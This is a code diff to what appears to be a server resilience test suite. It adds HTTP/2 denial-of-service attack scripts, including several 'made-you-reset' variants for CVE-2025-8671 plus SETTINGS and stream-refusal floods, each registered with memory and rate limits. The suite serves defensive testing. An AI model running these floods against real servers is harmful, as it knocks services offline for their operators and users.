@@ -5,8 +5,9 @@ from __future__ import annotations
 import asyncio
 import contextlib
 import itertools
+from collections.abc import Callable
 
-from hostile_site import MIB, Attack, Cut, Hostile
+from hostile_site import MIB, Attack, Cut, Hostile, Script
 from http1_attacks import SHORT
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
@@ -133,6 +134,64 @@ async def garbage(hostile: Hostile) -> None:
     await flood(hostile, START, frame(0x55, 0xFF, 12345, b"x" * 100) + frame(DATA, 0, 99, b"y"), 20)
 
 
+# Streams that the server resets itself (CVE-2025-8671): each request begins, and what follows ends it at once.
+
+
+def window_of_nothing(stream: int) -> bytes:
+    return frame(HEADERS, END_HEADERS | END_STREAM, stream, GET) + frame(WINDOW_UPDATE, 0, stream, bytes(4))
+
+
+def window_overflow(stream: int) -> bytes:
+    most = (0x7FFFFFFF).to_bytes(4, "big")
+    return frame(HEADERS, END_HEADERS | END_STREAM, stream, GET) + frame(WINDOW_UPDATE, 0, stream, most)
+
+
+def data_after_the_end(stream: int) -> bytes:
+    return frame(HEADERS, END_HEADERS | END_STREAM, stream, GET) + frame(DATA, END_STREAM, stream, b"x")
+
+
+def more_than_its_length(stream: int) -> bytes:
+    return frame(HEADERS, END_HEADERS, stream, POST + b"\x0f\x0d\x011") + frame(DATA, END_STREAM, stream, b"xyz")
+
+
+def trailers_without_end(stream: int) -> bytes:
+    return frame(HEADERS, END_HEADERS, stream, POST) + frame(HEADERS, END_HEADERS, stream, b"\x00\x01a\x01b")
+
+
+def made_you_reset(fault: Callable[[int], bytes], at_once: int = 50) -> Script:
+    async def script(hostile: Hostile) -> None:
+        await hostile.send(START)
+        with contextlib.suppress(TimeoutError):
+            async with asyncio.timeout(10):
+                for first in itertools.count(1, 2 * at_once):
+                    await hostile.send(b"".join(fault(n) for n in range(first, first + 2 * at_once, 2)))
+                    await asyncio.sleep(0)
+        await hostile.hear_out()
+        raise Cut
+
+    return script
+
+
+async def settings_of_many(hostile: Hostile) -> None:
+    """Each one moves the windows of all streams."""
+    many = b"".join(b"\0\4" + (65535 + n % 2).to_bytes(4, "big") for n in range(2000))
+    await flood(hostile, START, frame(SETTINGS, 0, 0, many), 200)
+
+
+async def refused(hostile: Hostile) -> None:
+    """Each of these is answered with a reset, which nobody reads."""
+    await hostile.send(START + b"".join(frame(HEADERS, END_HEADERS, n, POST) for n in range(1, 201, 2)))
+    with contextlib.suppress(TimeoutError):
+        async with asyncio.timeout(10):
+            for first in itertools.count(201, 1000):
+                await hostile.send(
+                    b"".join(frame(HEADERS, END_HEADERS | END_STREAM, n, GET) for n in range(first, first + 1000, 2))
+                )
+                await asyncio.sleep(0)
+    await hostile.hear_out()
+    raise Cut
+
+
 CAREFUL = {**SHORT, "http2": {"control_rate": 100, "reset_rate": 100, "max_streams": 100}}
 
 ATTACKS = [
@@ -148,4 +207,11 @@ ATTACKS = [
     Attack("h2-tiny-windows", tiny_windows, 50, CAREFUL, memory=48 * MIB),
     Attack("h2-too-many-streams", too_many_streams, 20, CAREFUL, cut=20, memory=32 * MIB),
     Attack("h2-garbage", garbage, 20, CAREFUL, cut=20),
+    Attack("h2-made-reset-window-0", made_you_reset(window_of_nothing), 10, CAREFUL, cut=10, memory=32 * MIB),
+    Attack("h2-made-reset-overflow", made_you_reset(window_overflow), 10, CAREFUL, cut=10, memory=32 * MIB),
+    Attack("h2-made-reset-data", made_you_reset(data_after_the_end), 10, CAREFUL, cut=10, memory=32 * MIB),
+    Attack("h2-made-reset-length", made_you_reset(more_than_its_length), 10, CAREFUL, cut=10, memory=32 * MIB),
+    Attack("h2-made-reset-trailers", made_you_reset(trailers_without_end), 10, CAREFUL, cut=10, memory=32 * MIB),
+    Attack("h2-settings-of-many", settings_of_many, 10, CAREFUL, cut=10),
+    Attack("h2-refused", refused, 10, CAREFUL, cut=10, memory=32 * MIB),
 ]
